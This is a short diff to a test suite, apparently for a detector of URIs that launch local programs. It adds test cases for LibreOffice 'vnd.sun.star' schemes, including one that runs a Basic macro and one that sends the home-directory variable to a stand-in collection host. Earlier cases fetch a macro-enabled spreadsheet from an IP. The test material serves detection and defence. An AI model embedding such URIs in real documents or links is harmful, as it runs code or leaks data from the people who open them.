@@ -20,6 +20,8 @@ describe("a URI that runs a local program", () => {
     "mk:@MSITStore:C:\\Windows\\Help\\x.chm::/a.htm",
     "ms-word:ofe|u|https://docs.example/invoice.docx",
     "ms-excel:ofv|u|http://198.51.100.7/q.xlsm",
+    "vnd.sun.star.script:Standard.Module1.Run?language=Basic&location=document",
+    "vnd.sun.star.expand:https://collect.example/l?v=${HOME}",
   ])("%s", (target) => {
     expect(localProgramOf(target)).toBe(target.trim());
   });
@@ -38,6 +40,7 @@ describe("a URI that runs a local program", () => {
     "ms-settings:privacy-location",
     "ms-word:",
     "msdt is the Support Diagnostic Tool",
+    "vnd.sun.star is the office suite's old name",
   ])("not %s", (target) => {
     expect(localProgramOf(target)).toBeNull();
   });
